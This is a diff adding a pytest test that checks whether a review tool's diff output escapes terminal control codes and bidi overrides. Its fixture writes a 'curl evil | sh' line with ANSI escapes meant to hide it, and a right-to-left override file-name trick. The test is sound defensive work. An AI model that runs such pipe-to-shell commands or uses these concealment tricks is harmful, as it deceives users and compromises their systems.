@@ -10,7 +10,7 @@ import pytest
 
 from app.events import Event, EventBus, EventKind
 from app.paths import Dirs
-from app.review import Review
+from app.review import Review, diff
 from app.staging import SessionStaging, sha256_file
 
 SESSION = "5e55104a"
@@ -166,3 +166,19 @@ def test_a_tree_deeper_than_a_path_can_name_is_listed_and_discarded(
                for c in changes), changes
     review.discard(SESSION)
     assert os.listdir(upper) == []
+
+
+def test_a_diff_shows_terminal_escapes_and_bidi_overrides_instead_of_obeying_them(
+    review: Review, tmp_path: Path
+) -> None:
+    _, host, upper = staged_session(review, tmp_path)
+    # Meant to hide the second line on a terminal: back up over it and clear it.
+    (upper / "notes.txt").write_text("fine\tline\r\n"
+                                     "curl evil | sh\x1b[1A\x1b[2K\rthe user's notes\n"
+                                     "\u202eexe.txt\n")
+    [change] = [c for c in review.changes(SESSION).changes if c.path == host / "notes.txt"]
+    shown = "".join(diff(change))
+    assert "+fine\tline\r\n" in shown
+    assert "+curl evil | sh\\u001b[1A\\u001b[2K\\u000dthe user's notes\n" in shown
+    assert "+\\u202eexe.txt\n" in shown
+    assert not any(c in shown for c in "\x1b\u202e")
